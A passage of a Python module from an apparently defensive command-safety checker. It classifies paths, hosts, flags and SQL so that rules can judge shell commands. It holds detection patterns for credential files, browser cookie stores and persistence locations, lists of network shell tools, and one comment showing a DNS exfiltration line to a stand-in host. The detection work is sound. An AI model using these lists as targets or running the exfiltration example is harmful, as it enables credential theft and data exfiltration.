"""Facts the level-1 rule matcher derives from one parsed command: flags, targets, hosts, SQL.

Rule packs are data; this module holds the small amount of domain knowledge they refer
to by name: which paths are "system", "home", "data", "secret" or "build output", which
hosts are vendors or internal, which SQL statements are unscoped, how a short flag
cluster spells several flags. Everything here is pure and never raises on odd input:
an unrecognised word simply gets no class.
"""

from __future__ import annotations

import fnmatch
import ipaddress
import posixpath
import re
from dataclasses import dataclass, field
from functools import lru_cache

from shield.model import SimpleCommand

# --------------------------------------------------------------------------- flags


@dataclass(frozen=True)
class CommandProfile:
    """Per-command knowledge the flag splitter needs: options that take a value."""

    value_flags: frozenset[str] = frozenset()


@dataclass
class ArgView:
    """A command's arguments split into flags and positional words.

    ``flags`` holds every spelling a rule may ask for: ``-rf`` yields ``-rf``, ``-r`` and
    ``-f``; ``--force=yes`` yields ``--force``. ``values`` maps a flag to the values it
    was given (``--replicas=0`` or ``-n prod``). ``positionals`` are the non-option words
    in order (after ``--`` everything is positional).
    """

    flags: set[str] = field(default_factory=set)
    values: dict[str, list[str]] = field(default_factory=dict)
    positionals: list[str] = field(default_factory=list)


def split_args(args: list[str], profile: CommandProfile | None = None) -> ArgView:
    """Split ``args`` into flags, flag values and positionals (never raises)."""
    view = ArgView()
    value_flags = profile.value_flags if profile else frozenset()
    i = 0
    end_of_options = False
    while i < len(args):
        word = args[i]
        i += 1
        if end_of_options or len(word) < 2 or word[0] != "-" or _looks_numeric(word):
            view.positionals.append(word)
            continue
        if word == "--":
            end_of_options = True
            continue
        if word.startswith("--"):
            name, eq, value = word.partition("=")
            view.flags.add(name)
            if eq:
                view.values.setdefault(name, []).append(value)
            elif name in value_flags and i < len(args):
                view.values.setdefault(name, []).append(args[i])
                i += 1
            continue
        name, eq, value = word.partition("=")
        view.flags.add(name)
        if eq:
            view.values.setdefault(name, []).append(value)
            continue
        if name in value_flags:
            if i < len(args):
                view.values.setdefault(name, []).append(args[i])
                i += 1
            continue
        # A short cluster: -rf == -r -f; a value flag inside it takes the rest (-n3) or
        # the next word (-vzn 3).
        letters = name[1:]
        for pos, letter in enumerate(letters):
            short = "-" + letter
            view.flags.add(short)
            if short in value_flags:
                rest = letters[pos + 1 :]
                if rest:
                    view.values.setdefault(short, []).append(rest)
                elif i < len(args):
                    view.values.setdefault(short, []).append(args[i])
                    i += 1
                break
    return view


def _looks_numeric(word: str) -> bool:
    return word[1:].replace(".", "", 1).isdigit()


# --------------------------------------------------------------------------- paths

SYSTEM_TOPS = frozenset(
    {
        "/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot", "/sys",
        "/proc", "/dev", "/var", "/opt", "/srv", "/root", "/home", "/snap", "/run", "/mnt", "/media",
        "/System", "/Library", "/Applications", "/private", "/Users", "/nix", "/data", "/backup",
        "/backups", "/nfs",
    }
)  # fmt: skip
# Directories whose contents are the machine's software or configuration: deleting any
# directory below them breaks the host.
SYSTEM_TREES = ("/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot", "/sys",
                "/proc", "/System", "/Library", "/snap", "/nix")  # fmt: skip
# Directories whose subdirectories hold services' state and users' data.
DATA_TREES = ("/var/lib", "/var/opt", "/var/db", "/var/mail", "/var/spool", "/srv", "/data", "/mnt",
              "/media", "/nfs", "/opt", "/backup", "/backups", "/var/backups", "/var/opt/gitlab",
              "/Volumes")  # fmt: skip
CRITICAL_FILES = frozenset(
    {
        "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers", "/etc/fstab",
        "/etc/hosts", "/etc/resolv.conf", "/etc/ssh/sshd_config", "/etc/pam.conf", "/etc/ld.so.preload",
        "/etc/crontab", "/etc/inittab", "/etc/login.defs", "/etc/security/opasswd",
    }
)  # fmt: skip
BUILD_NAMES = frozenset(
    {
        "dist", "build", "node_modules", "target", ".cache", "__pycache__", ".pytest_cache", ".next",
        ".nuxt", "coverage", ".coverage", "htmlcov", ".tox", ".nox", ".mypy_cache", ".ruff_cache",
        ".gradle", "out", "obj", ".parcel-cache", ".turbo", ".svelte-kit", "tmp", ".tmp", "_build",
        ".eggs", "site", "public/build", ".angular", ".expo", "vendor/bundle", ".terraform", "cmake-build-debug",
        "cmake-build-release", "bin", ".venv", "venv", "env", ".webpack", "storybook-static", "logs",
        "coverage.xml", ".DS_Store",
    }
)  # fmt: skip
BUILD_SUFFIXES = (".pyc", ".pyo", ".o", ".class", ".log", ".tmp", ".egg-info", ".tsbuildinfo")
HOME_CACHE_DIRS = (".cache", ".npm/_cacache", ".cargo/registry/cache", "Library/Caches", ".gradle/caches",
                   ".m2/repository", ".pnpm-store", ".yarn/cache", "go/pkg/mod/cache", ".local/share/Trash")  # fmt: skip
# Directories one level deeper than a home's children that still hold every application's
# data (XDG_DATA_HOME, XDG_STATE_HOME, macOS Application Support, Flatpak app data): they
# weigh like ~/.config, not like one project folder.
HOME_DATA_ROOTS = (".local/share", ".local/state", "Library/Application Support", ".var/app",
                   "Library/Mobile Documents", "Library/CloudStorage", "Library/Mail", "Library/Messages")  # fmt: skip
# Under a shared data mount (/srv, /mnt ...), a directory with one of these names holds
# many users' or services' data wherever it sits (/srv/nfs/home, /mnt/storage/shared).
SHARED_DATA_NAMES = frozenset({"home", "homes", "users", "shared", "share", "shares", "storage", "uploads", "exports",
                               "data"})  # fmt: skip
BLOCK_DEVICE = re.compile(
    r"^/dev/(sd[a-z]+\d*|hd[a-z]+\d*|vd[a-z]+\d*|xvd[a-z]+\d*|nvme\d+(n\d+)?(p\d+)?|mmcblk\d+(p\d+)?|md\d+|"
    r"dm-\d+|mapper/.+|disk/.+|loop\d+|sr\d+|[a-zA-Z0-9_-]+/[a-zA-Z0-9_.-]+|root|rootfs|mem|kmem|port|nbd\d+|"
    r"rbd\d+|zd\d+|s\*.*|sd\*.*|nvme\*.*)$"
)
PSEUDO_DEVICES = re.compile(r"^/dev/(null|zero|u?random|full|tty\w*|pts/.*|stdin|stdout|stderr|fd/.*|shm(/.*)?|"
                            r"tcp/.*|udp/.*|console|ptmx|log)$")  # fmt: skip
SECRET_PATTERNS = tuple(
    re.compile(p)
    for p in (
        r"(^|/)\.ssh/(id_[a-z0-9_]+|[^/]*_(rsa|dsa|ecdsa|ed25519))$",
        r"(^|/)\.ssh/?$",
        r"(^|/)\.ssh/\*",
        r"(^|/)\.ssh/id_\*",
        r"(^|/)\.aws(/|$)",
        r"(^|/)\.config/gcloud(/|$)",
        r"(^|/)\.azure(/|$)",
        r"(^|/)\.kube/config",
        r"(^|/)\.kube/?$",
        r"(^|/)\.docker/config\.json$",
        r"(^|/)\.netrc$",
        r"(^|/)\.pgpass$",
        r"(^|/)\.my\.cnf$",
        r"(^|/)\.git-credentials$",
        r"(^|/)\.vault-token$",
        r"(^|/)\.gnupg(/|$)",
        r"(^|/)\.password-store(/|$)",
        r"(^|/)\.npmrc$",
        r"(^|/)\.pypirc$",
        r"(^|/)\.env(\.[\w.-]+)?$",
        r"(^|/)\.(bash|zsh|sh|python|mysql|psql)_history$",
        r"(^|/)id_(rsa|dsa|ecdsa|ed25519)$",
        r"\.(key|p12|pfx|jks|keystore|kdbx|gpg|ppk)$",
        r"(key|priv|secret|id_)[^/]*\.(pem|asc)$|^/etc/ssl/private/|(^|/)private/[^/]+\.pem$",
        r"^/etc/(shadow|gshadow|security/opasswd|sudoers)(-|$)",
        r"^/etc/ssh/ssh_host_.*_key$",
        r"^/etc/ssl/private",
        r"^/proc/[^/]+/(environ|mem|maps|cmdline)$",
        r"^/dev/k?mem$",
        r"(Login Data|Cookies|key[34]\.db|logins\.json|cookies\.sqlite|Local State)$",
        r"(^|/)Library/Keychains",
        r"(^|/)\.config/(google-chrome|chromium|BraveSoftware|mozilla)|(^|/)\.mozilla/",
        r"(^|/)(credentials|secrets?)(\.json|\.ya?ml|\.txt|\.env)?$",
        r"(^|/)\.terraform\.d/credentials",
        r"(^|/)\.config/(gh|hub)/hosts\.yml$",
        r"(^|/)wallet\.dat$",
        r"\.tfstate(\.backup)?$|(^|/)\.htpasswd$|\.keytab$|(^|/)service[-_]?account[^/]*\.json$|(^|/)token\.json$",
        r"(^|/)\.(git-credentials|boto|s3cfg|dockercfg|fetchmailrc|msmtprc)$|(^|/)\.config/rclone/rclone\.conf$",
        # Secrets mounted into containers and pods (service-account tokens, docker/k8s secrets).
        r"^/(var/)?run/secrets/",
    )
)
NOT_SECRET = re.compile(r"\.(pub|example|sample|template|dist)$|known_hosts$|\.ssh/config$")
PERSISTENCE_PATTERNS = tuple(
    re.compile(p)
    for p in (
        (
            r"(^|/)\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|cshrc|tcshrc|kshrc|"
            r"inputrc|xinitrc|xprofile|xsessionrc)$"
        ),
        r"(^|/)\.config/fish/config\.fish$",
        r"^/etc/(profile|bash\.bashrc|zsh/zshrc|environment|rc\.local)$",
        r"^/etc/profile\.d/",
        r"^/etc/(crontab|cron\.(d|daily|hourly|weekly|monthly|allow)(/|$))",
        r"^/var/spool/cron",
        r"(^|/)\.ssh/(authorized_keys2?|rc|environment)$",
        r"^/etc/ssh/(sshd_config(\.d/.*)?|ssh_config)$",
        r"^/(etc|lib|usr/lib|run)/systemd/(system|user)(/|$)",
        r"(^|/)\.config/systemd/user(/|$)",
        r"(^|/)\.config/autostart(/|$)",
        r"^/etc/xdg/autostart",
        r"^/etc/init\.d/|^/etc/init/|^/etc/rc\d\.d/",
        r"^/etc/ld\.so\.preload$|^/etc/ld\.so\.conf",
        r"^/etc/pam\.d/|^/(usr/)?lib(64)?/(x86_64-linux-gnu/)?security/",
        r"^/etc/(passwd|shadow|group)$",
        r"(site|dist)-packages/.*\.pth$|\.pth$",
        # Python imports these on every interpreter start-up, like .pth files.
        r"(site|dist)-packages/(usercustomize|sitecustomize)\.py$",
        r"^/.*/\.git/hooks/|^~?/?\.hooks/|(^|/)\.hooks/",
        r"^/etc/update-motd\.d/|^/etc/apt/apt\.conf\.d/",
        r"(^|/)Library/Launch(Agents|Daemons)/|^/Library/StartupItems",
        r"^/etc/modules-load\.d/|^/etc/modprobe\.d/",
        r"^/etc/udev/rules\.d/",
    )
)
SUDOERS = re.compile(r"^/etc/sudoers(\.d(/.*)?)?$")
# Container registry settings (mirrors, insecure registries) are where images come from.
PACKAGE_SOURCES = re.compile(
    r"^/etc/(apt/sources\.list(\.d/.*)?|yum\.repos\.d/.*|apk/repositories|pacman\.conf|"
    r"zypp/repos\.d/.*|pip\.conf|docker/daemon\.json|containers/registries\.conf(\.d/.*)?|"
    r"containerd/config\.toml|rancher/k3s/registries\.yaml)$|(^|/)\.(npmrc|yarnrc(\.yml)?|pypirc)$|(^|/)pip\.conf$"
)
LOCKFILE = re.compile(
    r"(^|/)(package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|poetry\.lock|"
    r"Pipfile\.lock|uv\.lock|go\.sum|Cargo\.lock|composer\.lock|Gemfile\.lock|"
    r"requirements[\w.-]*\.txt|gradle-wrapper\.(jar|properties)|mvnw|gradlew|\.mvn/wrapper/.*)$"
)
SYSTEM_LOG = re.compile(
    r"^/var/log/([^/]+|(audit|journal|nginx|apache2|httpd|mysql|postgresql|sssd|secure|"
    r"installer|apt|samba|cups|letsencrypt)/.*)$|^/var/run/utmp$|^/run/log/journal"
)
LOG_PATTERN = re.compile(
    r"^/var/log(/|$)|(^|/)\.(bash|zsh)_history$|^/var/(run/utmp|log/wtmp|log/btmp|log/lastlog)"
)
SHELL_RC = re.compile(r"(^|/)\.(bashrc|bash_profile|profile|zshrc|zprofile|bash_login)$")


@dataclass(frozen=True)
class PathEnv:
    """Where relative and ``~`` paths point: the user's home and the project directory."""

    home: str = "/root"
    cwd: str | None = None
    project_root: str | None = None


def looks_like_path(word: str) -> bool:
    """Whether a word is plausibly a file path rather than a name, number or URL."""
    if not word or "://" in word or word.startswith("-"):
        return False
    return (
        word.startswith(("/", "~", ".", "$HOME", "${HOME}"))
        or "/" in word
        or "." in word
        or word
        in (
            "*",
            "..",
        )
    )


def _norm(path: str) -> str:
    trailing_glob = path.endswith("/*") or path == "*"
    cleaned = posixpath.normpath(path) if path not in ("", "*") else path
    if path.startswith("//") and not path.startswith("///"):
        cleaned = "/" + cleaned.lstrip("/")
    if trailing_glob and not cleaned.endswith("*"):
        cleaned = cleaned.rstrip("/") + "/*"
    return cleaned


@lru_cache(maxsize=8192)
def classify_path(word: str, env: PathEnv = PathEnv()) -> frozenset[str]:
    """Classes of one path-like word (empty when it is not a path we know anything about).

    Classes: ``root`` (``/``, ``/*``), ``system`` (a system directory or one inside a system
    tree), ``system_file`` (a file in a system tree), ``critical_file`` (passwd, shadow,
    fstab ...), ``data`` (service state, mounts, backups), ``home`` (a home directory
    itself), ``home_child`` (a direct child of a home directory), ``home_deep``, ``cache``,
    ``tmp``, ``build`` (build output or cache inside the project), ``project`` (inside the
    project), ``outside`` (any other absolute path), ``escape`` (climbs out of the project
    with ``..``), ``block_device``, ``pseudo_device``, ``secret``, ``persistence``,
    ``shell_rc``, ``log``, ``backup``, ``git_dir``.
    """
    classes: set[str] = set()
    if not word or "://" in word:
        return frozenset()
    path = word
    home = env.home.rstrip("/") or "/"
    for prefix in ("${HOME}", "$HOME"):
        if path == prefix or path.startswith(prefix + "/"):
            path = home + path[len(prefix) :]
    if path == "~" or path.startswith("~/"):
        path = home + path[1:]
    elif path.startswith("~"):
        user, _, rest = path[1:].partition("/")
        path = ("/root" if user == "root" else f"/home/{user}") + ("/" + rest if rest else "")
    if path in ("{}", "{};", "{} +"):
        return frozenset({"placeholder"})
    for pwd in ("$PWD", "${PWD}", "$(pwd)", "`pwd`"):
        if path == pwd or path.startswith(pwd + "/"):
            path = "." + path[len(pwd) :]
    if path.startswith(("$", "`")):
        return frozenset({"dynamic"} | _name_classes(path))

    relative = not path.startswith("/")
    if relative:
        parts = [p for p in path.split("/") if p not in ("", ".")]
        ups = 0
        for part in parts:
            if part != "..":
                break
            ups += 1
        if ups:
            base = env.project_root or env.cwd
            if base:
                path = posixpath.join(base, path)
                relative = False
            else:
                classes.add("escape")
                rest = parts[ups:]
                # Climbing three or more levels from an unknown directory can reach /.
                if ups >= 3:
                    if not rest or rest == ["*"]:
                        classes.add("root")
                    elif "/" + rest[0] in SYSTEM_TOPS:
                        classes.update({"system", "root_reachable"})
                return frozenset(classes | _name_classes(path))
        elif env.cwd and env.cwd != "/":
            pass  # a plain relative path stays inside the working directory
        elif env.cwd == "/":
            path = "/" + path
            relative = False

    if relative:
        classes.add("project")
        parts = [p for p in path.split("/") if p not in ("", ".")]
        if parts and parts[0] == "*" and len(parts) == 1:
            classes.add("project_all")
        if parts and (
            any(p in BUILD_NAMES for p in parts)
            or parts[-1].endswith(BUILD_SUFFIXES)
            or any(p.endswith(".egg-info") for p in parts)
        ):
            classes.add("build")
        if parts and parts[0] == ".git":
            classes.add("git_dir")
            if len(parts) > 2 and parts[1] == "hooks":
                classes.add("git_hook")
        return frozenset(classes | _name_classes(path))

    norm = _norm(path)
    project = env.project_root or env.cwd
    if project and project != "/" and (norm == project or norm.startswith(project.rstrip("/") + "/")):
        inner = norm[len(project.rstrip("/")) :].lstrip("/")
        sub = classify_path(inner or ".", PathEnv(home=env.home))
        return frozenset(sub | _name_classes(norm))

    if norm in ("/", "/*", "/.", "/.*"):
        classes.add("root")
        return frozenset(classes)
    first = norm.split("/")[1] if norm.count("/") >= 1 else ""
    if any(ch in first for ch in "*?["):
        # An unexpanded glob in the top-level component (/e?c, /[u]sr, /???): judge it by
        # the system directories it can name.
        if any(fnmatch.fnmatchcase(top_dir[1:], first) for top_dir in SYSTEM_TOPS):
            classes.update({"system", "glob_system"})
        if first.strip("*?") == "":
            classes.add("root")
    if BLOCK_DEVICE.match(norm) and not PSEUDO_DEVICES.match(norm):
        classes.add("block_device")
    if PSEUDO_DEVICES.match(norm):
        classes.add("pseudo_device")

    stripped = norm.removesuffix("/*")
    top = "/" + stripped.split("/")[1] if stripped != "/" else "/"
    depth = stripped.count("/")

    home_dir = _home_of(stripped, home)
    if home_dir is not None:
        rel = stripped[len(home_dir) :].lstrip("/")
        if not rel:
            classes.add("home")
        elif any(rel == c or rel.startswith(c + "/") for c in HOME_CACHE_DIRS):
            classes.add("cache")
        elif "/" not in rel or rel in HOME_DATA_ROOTS:
            classes.add("home_child")
        else:
            classes.add("home_deep")
    elif stripped in ("/home", "/Users") or stripped == "/root":
        classes.add("home")
    elif stripped in SYSTEM_TOPS or stripped in (
        "/var/lib",
        "/var/log",
        "/usr/local",
        "/usr/bin",
        "/usr/lib",
        "/var/www",
        "/var/cache",
    ):
        classes.add("system")
    elif any(stripped.startswith(t + "/") for t in SYSTEM_TREES):
        classes.add("system_file")
        if depth <= 2 and top not in ("/proc", "/sys"):
            classes.add("system")  # /etc/systemd, /usr/share, /lib/modules ...
        if stripped in CRITICAL_FILES or stripped.startswith("/boot/"):
            classes.add("critical_file")
    if stripped in CRITICAL_FILES:
        classes.add("critical_file")
    if any(stripped == t or stripped.startswith(t + "/") for t in DATA_TREES) and home_dir is None:
        shallow_tops = ("/mnt", "/media", "/opt", "/srv", "/Volumes")
        if top in shallow_tops:
            # /opt/app, /srv/data, /mnt/backups/* are whole data areas; deeper paths are specific dirs,
            # unless their name says they hold everyone's data (/srv/nfs/home).
            whole_area = (stripped != top or norm.endswith("/*")) and depth <= 2
            shared = depth > 2 and stripped.rsplit("/", 1)[-1] in SHARED_DATA_NAMES
            if whole_area or shared:
                classes.add("data")
        else:
            classes.add("data")
    if stripped in ("/tmp", "/var/tmp", "/dev/shm") or stripped.startswith(
        ("/tmp/", "/var/tmp/", "/dev/shm/")
    ):
        classes.add("tmp")
    if stripped.startswith("/var/log/") or stripped == "/var/log":
        classes.add("log")
    if not classes & {
        "home",
        "home_child",
        "home_deep",
        "cache",
        "system",
        "system_file",
        "data",
        "tmp",
        "root",
        "block_device",
        "pseudo_device",
    }:
        classes.add("outside")
    return frozenset(classes | _name_classes(norm))


def _home_of(path: str, home: str) -> str | None:
    if home != "/" and (path == home or path.startswith(home + "/")):
        return home
    match = re.match(r"^(/home/[^/]+|/Users/[^/]+|/root)(/|$)", path)
    if match:
        return match.group(1)
    return None


def _name_classes(path: str) -> set[str]:
    """Classes that depend on the file name wherever it lives."""
    classes: set[str] = set()
    if any(p.search(path) for p in SECRET_PATTERNS) and not NOT_SECRET.search(path):
        classes.add("secret")
    if any(p.search(path) for p in PERSISTENCE_PATTERNS):
        classes.add("persistence")
    if SHELL_RC.search(path):
        classes.add("shell_rc")
    if SUDOERS.search(path):
        classes.add("sudoers")
    if PACKAGE_SOURCES.search(path):
        classes.add("package_source")
    if LOCKFILE.search(path):
        classes.add("lockfile")
    if SYSTEM_LOG.search(path):
        classes.add("system_log")
    if re.search(r"(^|/)\.(bash|zsh|sh|python|mysql|psql|node_repl|lesshst)_?history$", path):
        classes.add("history")
    if LOG_PATTERN.search(path):
        classes.add("log")
    if re.search(r"(^|/)[^/]*backups?[^/]*(/|$)|(^|/)(snapshots|dumps)(/|$)", path, re.IGNORECASE):
        classes.add("backup")
    base = path.rstrip("/").rsplit("/", 1)[-1]
    if base.startswith(".") and base not in (".", "..", ".*") and len(base) > 1:
        classes.add("hidden")
    return classes


# --------------------------------------------------------------------------- hosts

VENDOR_HOSTS = frozenset(
    {
        "github.com", "api.github.com", "raw.githubusercontent.com", "objects.githubusercontent.com",
        "codeload.github.com", "gist.githubusercontent.com", "gitlab.com", "bitbucket.org",
        "registry.npmjs.org", "www.npmjs.com", "registry.yarnpkg.com", "yarnpkg.com", "pypi.org",
        "files.pythonhosted.org", "sh.rustup.rs", "static.rust-lang.org", "crates.io", "deb.nodesource.com",
        "rpm.nodesource.com", "nodejs.org", "get.docker.com", "download.docker.com", "install.python-poetry.org",
        "astral.sh", "bun.sh", "deno.land", "get.helm.sh", "cli.github.com", "brew.sh", "dl.google.com",
        "packages.microsoft.com", "aka.ms", "apt.releases.hashicorp.com", "releases.hashicorp.com",
        "awscli.amazonaws.com", "sdk.cloud.google.com", "packages.cloud.google.com", "get.k3s.io", "go.dev",
        "golang.org", "proxy.golang.org", "sum.golang.org", "pnpm.io", "get.pnpm.io", "rubygems.org",
        "repo.maven.apache.org", "repo1.maven.org", "services.gradle.org", "gradle.org", "docker.io",
        "registry-1.docker.io", "ghcr.io", "gcr.io", "quay.io", "mcr.microsoft.com", "public.ecr.aws",
        "dl-cdn.alpinelinux.org", "archive.ubuntu.com", "security.ubuntu.com", "deb.debian.org",
        "download.fedoraproject.org", "mirrors.kernel.org", "sdkman.io", "get.sdkman.io", "nixos.org",
        "install.determinate.systems", "tailscale.com", "pkgs.tailscale.com", "starship.rs", "ohmyz.sh",
        "raw.github.com", "api.nuget.org", "cdn.jsdelivr.net", "unpkg.com", "storage.googleapis.com",
        "s3.amazonaws.com", "dot.net", "dotnet.microsoft.com", "repo.anaconda.com", "conda.anaconda.org",
        "micro.mamba.pm", "fly.io", "cli.doppler.com", "vercel.com", "get.rvm.io", "getcomposer.org",
        "composer.github.io", "cdn.rstudio.com", "apt.llvm.org", "apt.kubernetes.io", "pkgs.k8s.io",
        "baltocdn.com", "dl.k8s.io", "k8s.io", "8.8.8.8", "1.1.1.1", "8.8.4.4", "1.0.0.1",
        "google.com", "www.google.com", "cloudflare.com", "amazon.com", "example.com",
    }
)  # fmt: skip
VENDOR_SUFFIXES = (".github.com", ".githubusercontent.com", ".npmjs.org", ".pythonhosted.org", ".docker.com",
                   ".amazonaws.com", ".googleapis.com", ".rust-lang.org", ".nodesource.com", ".hashicorp.com",
                   ".microsoft.com", ".gitlab.com", ".google.com", ".cloudflare.com")  # fmt: skip
INTERNAL_SUFFIXES = (".internal", ".local", ".localdomain", ".lan", ".corp", ".intranet", ".svc",
                     ".cluster.local", ".home.arpa", ".private", ".test", ".localhost")  # fmt: skip
_HOST_CHARS = re.compile(r"^[A-Za-z0-9._-]+$")
_URL = re.compile(r"^(?:[a-zA-Z][a-zA-Z0-9+.-]*)://(?:[^@/?#]*@)?(\[[^\]]+\]|[^:/?#]+)")
_USER_HOST = re.compile(r"^[A-Za-z0-9._-]+@([A-Za-z0-9._-]+|\[[^\]]+\])(?::|$)")
_DEV_TCP = re.compile(r"^/dev/(?:tcp|udp)/([^/]+)/\d+")
_SOCAT = re.compile(r"(?i)^(?:tcp4?|tcp6|udp|openssl|ssl|tcp-connect|openssl-connect)[:-]([^:,]+):\d+")


def host_of(word: str) -> str | None:
    """The host a word names: URL host, ``user@host``, ``/dev/tcp/h/p``, ``TCP:h:p``, else None."""
    for pattern in (_URL, _DEV_TCP, _SOCAT, _USER_HOST):
        match = pattern.match(word)
        if match:
            return match.group(1).strip("[]").lower()
    return None


@lru_cache(maxsize=4096)
def classify_host(host: str) -> str:
    """One of ``local``, ``internal``, ``vendor``, ``public_ip``, ``unknown``."""
    host = host.lower().rstrip(".")
    if host in ("localhost", "0.0.0.0", "::", "::1", "host.docker.internal") or host.endswith(".localhost"):
        return "local"
    try:
        ip = ipaddress.ip_address(host)
    except ValueError:
        ip = None
    if ip is not None:
        if ip.is_loopback:
            return "local"
        if str(ip) in VENDOR_HOSTS:
            return "vendor"
        # Documentation ranges are what the corpus uses for attacker infrastructure; real
        # private ranges are the org's own network.
        doc_nets = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24")
        if any(ip in ipaddress.ip_network(n) for n in doc_nets):
            return "public_ip"
        if ip.is_private or ip.is_link_local:
            return "internal"
        return "public_ip"
    if host in VENDOR_HOSTS or host.endswith(VENDOR_SUFFIXES):
        return "vendor"
    if host.endswith(INTERNAL_SUFFIXES) or ("." not in host and _HOST_CHARS.match(host)):
        return "internal"
    return "unknown"


UNTRUSTED_HOSTS = frozenset({"public_ip", "unknown"})


def hosts_in(command: SimpleCommand) -> list[tuple[str, str]]:
    """(host, class) for every host named in a command's arguments and redirects."""
    found: list[tuple[str, str]] = []
    words = list(command.args) + [r.target for r in command.redirects if r.op not in ("<<", "<<-", "<<<")]
    for word in words:
        for candidate in _split_candidates(word):
            host = host_of(candidate)
            if host:
                found.append((host, classify_host(host)))
    args = command.args
    for i, word in enumerate(args[:-1]):
        if word in ("-display", "--display", "-disp"):
            # X clients: `xterm -display 203.0.113.14:1` draws on (and takes input from) that host.
            match = _X_DISPLAY.match(args[i + 1])
            if match and match.group(1):
                host = match.group(1).strip("[]").lower()
                found.append((host, classify_host(host)))
    if command.name in CONTAINER_COMMANDS:
        # Image references name their registry: 198.51.100.9:5000/acme/api:1.0, ghcr.io/acme/api.
        for word in args:
            match = _IMAGE_REF.match(word) if not word.startswith(("-", "/", ".")) else None
            if match:
                host = match.group(1).strip("[]").lower()
                found.append((host, classify_host(host)))
    if command.name in BARE_HOST_COMMANDS:
        view = split_args(command.args, BARE_HOST_PROFILES.get(command.name))
        for word in view.positionals:
            if host_of(word) or word.startswith((".", "/", "~")) or word.endswith(_FILE_SUFFIXES):
                continue
            if _HOST_CHARS.match(word) and not word.isdigit() and ("." in word or _is_ip(word)):
                found.append((word.lower(), classify_host(word)))
            elif command.name in DNS_COMMANDS:
                # `dig $(secret | base64).exfil.example`: the zone at the end is the destination.
                tail = _TRAILING_DOMAIN.search(word)
                if tail:
                    found.append((tail.group(1).lower(), classify_host(tail.group(1))))
    return found


DNS_COMMANDS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6"})
CONTAINER_COMMANDS = frozenset({"docker", "podman", "nerdctl", "buildah", "skopeo", "crane", "ctr", "cosign"})
_IMAGE_REF = re.compile(
    r"^((?:[A-Za-z0-9-]+\.)+[A-Za-z0-9-]+|localhost|\[[0-9A-Fa-f:]+\])(?::\d+)?/[\w./-]+(?::[\w.-]+|@sha256:[0-9a-f]+)?$"
)
_X_DISPLAY = re.compile(r"^([A-Za-z0-9._-]+|\[[^\]]+\])?:\d+(\.\d+)?$")
_TRAILING_DOMAIN = re.compile(r"\.((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,})$")
_FILE_SUFFIXES = (
    ".sh",
    ".py",
    ".txt",
    ".json",
    ".yaml",
    ".yml",
    ".tar",
    ".gz",
    ".tgz",
    ".zip",
    ".sql",
    ".log",
    ".pcap",
    ".conf",
    ".pem",
    ".crt",
    ".key",
    ".csv",
    ".md",
    ".js",
    ".ts",
    ".rb",
    ".pl",
)


def _split_candidates(word: str) -> list[str]:
    # `--url=https://x`, `data=@file`, `LHOST=1.2.3.4` carry the interesting part after `=`.
    parts = [word]
    if "=" in word and "://" not in word.split("=", 1)[0]:
        parts.append(word.split("=", 1)[1])
    return parts


def _is_ip(word: str) -> bool:
    try:
        ipaddress.ip_address(word)
        return True
    except ValueError:
        return False


BARE_HOST_COMMANDS = frozenset({"nc", "ncat", "netcat", "telnet", "ssh", "ping", "dig", "nslookup", "host",
                                "traceroute", "hping3", "nmap", "chisel", "mosh", "sftp", "ftp", "openssl",
                                "whois", "mtr", "curl", "wget", "rsync", "scp", "socat"})  # fmt: skip
BARE_HOST_PROFILES = {
    "ssh": CommandProfile(
        frozenset(
            {
                "-p",
                "-i",
                "-l",
                "-L",
                "-R",
                "-D",
                "-o",
                "-F",
                "-J",
                "-W",
                "-b",
                "-c",
                "-E",
                "-e",
                "-m",
                "-O",
                "-Q",
                "-S",
                "-w",
            }
        )
    ),
    "nc": CommandProfile(frozenset({"-e", "-c", "-p", "-s", "-w", "-i", "-q", "-x", "-X"})),
    "ncat": CommandProfile(frozenset({"-e", "-c", "-p", "-s", "-w", "-i", "--exec", "--sh-exec", "-x"})),
    "netcat": CommandProfile(frozenset({"-e", "-c", "-p", "-s", "-w", "-i", "-q"})),
    "ping": CommandProfile(frozenset({"-c", "-i", "-w", "-W", "-s", "-I", "-t"})),
    "hping3": CommandProfile(frozenset({"-p", "-c", "-i", "-d", "-s", "-a", "-I"})),
    "curl": CommandProfile(
        frozenset(
            {
                "-o",
                "-d",
                "-H",
                "-X",
                "-F",
                "-T",
                "-u",
                "-A",
                "-e",
                "-x",
                "-w",
                "-K",
                "--data",
                "--data-binary",
                "--data-raw",
                "--header",
                "--output",
                "--request",
                "--user",
                "--upload-file",
                "--form",
                "--proto",
                "--connect-timeout",
                "-m",
                "--max-time",
                "--unix-socket",
                "--resolve",
                "--cacert",
                "--cert",
                "--key",
                "--retry",
            }
        )
    ),
    "wget": CommandProfile(
        frozenset(
            {
                "-O",
                "-o",
                "-P",
                "--post-file",
                "--post-data",
                "--header",
                "-U",
                "--user-agent",
                "-e",
                "-t",
                "-T",
            }
        )
    ),
    "openssl": CommandProfile(frozenset({"-connect", "-servername", "-in", "-out", "-CAfile"})),
}


# --------------------------------------------------------------------------- SQL

_SQL_COMMENT = re.compile(r"--[^\n]*|/\*.*?\*/", re.DOTALL)
_SQL_SPLIT = re.compile(r";")


# A WHERE that filters nothing (WHERE 1=1, WHERE TRUE, WHERE 'a'='a', WHERE id = id) leaves
# a DELETE or UPDATE as unscoped as having no WHERE at all.
_ALWAYS_TRUE_WHERE = re.compile(
    r"\bWHERE\s+(?:1\s*=\s*1|TRUE|1|NOT\s+FALSE|'([^']*)'\s*=\s*'\1'|(\d+)\s*=\s*\2|([A-Z_][\w.]*)\s*=\s*\3)"
    r"\s*(?:$|;|\bORDER\b|\bLIMIT\b|\bRETURNING\b|\))"
)


def sql_kinds(text: str) -> frozenset[str]:
    """What a SQL / Mongo / Redis / CQL text does, as a set of kinds.

    Kinds: ``drop_database`` (DROP DATABASE/SCHEMA/KEYSPACE, dropDatabase, FLUSHALL, FLUSHDB),
    ``drop_table``, ``drop_many`` (several tables / CASCADE), ``truncate``, ``delete_all``
